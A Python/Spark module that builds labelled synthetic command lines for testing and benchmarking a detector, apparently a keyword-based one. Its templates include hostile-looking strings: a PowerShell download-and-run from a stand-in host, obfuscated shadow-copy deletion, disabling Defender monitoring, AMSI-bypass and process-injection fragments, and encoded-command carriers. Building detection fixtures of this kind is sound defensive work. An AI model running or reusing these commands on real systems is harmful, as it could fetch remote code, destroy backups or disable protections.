"""Commands derived from the ``events`` table, for queries, tests and benchmarks.

The given tables hold prose that fires almost no keyword.  Every event becomes one
command instead, from one of 27 templates, and most of them carry the event's own type,
properties and number, so that texts differ from row to row.  The expressions are plain SQL that Spark
and DuckDB read alike, and the number of commands grows with the table.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

# ^ stands for a backslash and ~ for a double quote.
TEMPLATES = (
    "git status",
    "git pull; iex foo",
    "C:^Users^u^Downloads^setup.exe",
    "C:^Windows^System32^ping.exe -n 1 host",
    "notepad.exe",
    "readme.txt",
    "Get-ChildItem -Recurse",
    "powershell -EncodedCommand "
    "dwByAGkAdABlAC0AbwB1AHQAcAB1AHQAIABiAHkAcABhAHMAcwAgAG0AYQByAGsAZQByAA==",
    "iex (New-Object Net.WebClient).DownloadString(http://example.invalid/a)",
    "~vss~ + ~ad~ + ~min~ delete shadows",
    "[char]105[char]101[char]120 foo",
    "Set-MpPreference -DisableRealtimeMonitoring 1",
    "[Ref].Assembly.GetType().GetField(nonpublic) kernel32 VirtualAlloc "
    "CreateRemoteThread DllImport http",
    "AesManaged CreateEncryptor gci -Recurse Out-File",
    "schtasks bypass base64",
    "cmd windowstylehidden",
    "certutil -urlcache",
    "cd C:^data^download",
    "$c.Download(1); cd x",
    "$a+$b",
    "ls",
    "dir   x",
    "[char]10[char]101",
    "sequence reference",
    "frombase64 d3JpdGUtb3V0cHV0IGFtc2l1dGlscyBtYXJrZXIgdGV4dA==",
    "vssadmin delete; rijndael recurse",
    "",
)
HOSTILE_TEMPLATES = (1, 8, 9, 10, 11, 12, 13, 14, 15, 16, 24, 25, 7)


def _unmask(sql: str) -> str:
    return f"replace(replace({sql}, '^', chr(92)), '~', chr(34))"


_CASES = " ".join(f"WHEN {i} THEN '{text}'" for i, text in enumerate(TEMPLATES))

#: templates that only count as they stand, and every eleventh command, have no tail
_TAIL = (
    f"CASE WHEN event_id % {len(TEMPLATES)} IN (4, 26) OR event_id % 11 = 5 THEN '' ELSE "
    "' # ' || event_type || ' ' || props || ' ' || CAST(event_id AS VARCHAR(20)) END"
)

COMMAND = _unmask(f"CASE event_id % {len(TEMPLATES)} {_CASES} END") + " || " + _TAIL

SOURCE = (
    "CASE WHEN event_id % 27 = 5 THEN 'UserAssist' WHEN event_id % 3 = 0 THEN "
    "'Console_History' WHEN event_id % 3 = 1 THEN 'PS_Operational.evtx (EID 4104)' "
    "ELSE 'Persistence Trigger (Run)' END"
)

MALICIOUS = (
    f"CASE WHEN (event_id % 27 IN {HOSTILE_TEMPLATES}) <> (event_id % 97 = 0) "
    "THEN 1 ELSE 0 END"
)

#: display text of the event's time: undated, in file form, or plain
SHOWN_SPARK = "date_format(ts, 'dd-MM-yyyy HH:mm:ss')"
SHOWN_DUCKDB = "strftime(ts, '%d-%m-%Y %H:%M:%S')"


def _timestamp(shown: str) -> str:
    return (
        f"CASE event_id % 7 WHEN 0 THEN 'N/D' WHEN 1 THEN {shown} || ' (File)' "
        f"ELSE {shown} END"
    )


def commands(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/events.parquet").selectExpr(
        "event_id AS cmd_id", "ts", "user_id", f"{SOURCE} AS source", f"{COMMAND} AS command",
        f"{_timestamp(SHOWN_SPARK)} AS timestamp", f"{MALICIOUS} AS malicious",
    )


COMMANDS_SQL = (
    f"SELECT event_id AS cmd_id, ts, user_id, {SOURCE} AS source, {COMMAND} AS command, "
    f"{_timestamp(SHOWN_DUCKDB)} AS timestamp, CAST({MALICIOUS} AS INTEGER) AS malicious "
    "FROM events"
)

# --- commands with a payload of their own ------------------------------------------

#: plain text that is hidden in a row's command
HIDDEN = (
    "CASE event_id % 4 WHEN 0 THEN 'write-output bypass ' WHEN 1 THEN 'amsiutils marker; ' "
    "WHEN 2 THEN 'set-content out.txt ' ELSE 'schtasks /create /tn ' END "
    "|| event_type || ' ' || props || ' ' || CAST(event_id AS VARCHAR(20))"
)

#: two rows in three are encoded as UTF-16LE, one as UTF-8; one in five loses its padding
_CARRIER = (
    "'powershell -EncodedCommand ' || CASE WHEN event_id % 5 = 4 THEN "
    "regexp_replace({token}, '=+$', '') ELSE {token} END || ' # ' || event_type"
)
_TOKEN_DUCKDB = (
    f"to_base64(CASE WHEN event_id % 3 = 2 THEN encode({HIDDEN}) ELSE "
    f"unhex(regexp_replace(hex(encode({HIDDEN})), '(..)', '\\100', 'g')) END)"
)


def carriers(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One command per event, each hiding that event's own text."""
    encoded = f"base64(encode({HIDDEN}, CASE WHEN event_id % 3 = 2 THEN 'UTF-8' ELSE 'UTF-16LE' END))"
    # Spark folds long base64 text into lines.
    token = f"replace({encoded}, chr(13) || chr(10), '')"
    return spark.read.parquet(f"{sf_dir}/events.parquet").selectExpr(
        "event_id AS cmd_id", f"{_CARRIER.format(token=token)} AS command"
    )


CARRIERS_SQL = (
    f"SELECT event_id AS cmd_id, {_CARRIER.format(token=_TOKEN_DUCKDB)} AS command FROM events"
)

# --- long texts --------------------------------------------------------------------

TEXTS_SQL = (
    "SELECT 'documents' AS origin, doc_id AS id, CAST(0 AS BIGINT) AS part, text FROM documents "
    "UNION ALL SELECT 'conversations', conv_id, turn, text FROM conversations "
    "UNION ALL SELECT 'html', page_id, CAST(0 AS BIGINT), html FROM pages "
    "UNION ALL SELECT 'url', page_id, CAST(0 AS BIGINT), url FROM pages "
    f"UNION ALL SELECT 'events', event_id, CAST(0 AS BIGINT), {COMMAND} FROM events"
)


def texts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Every text of the given tables, whole, with the commands added."""
    views = {
        name: spark.read.parquet(f"{sf_dir}/{name}.parquet")
        for name in ("documents", "conversations", "pages", "events")
    }
    return spark.sql(
        TEXTS_SQL.replace("FROM documents", "FROM {documents}")
        .replace("FROM conversations", "FROM {conversations}")
        .replace("FROM pages", "FROM {pages}")
        .replace("FROM events", "FROM {events}"),
        **views,
    )
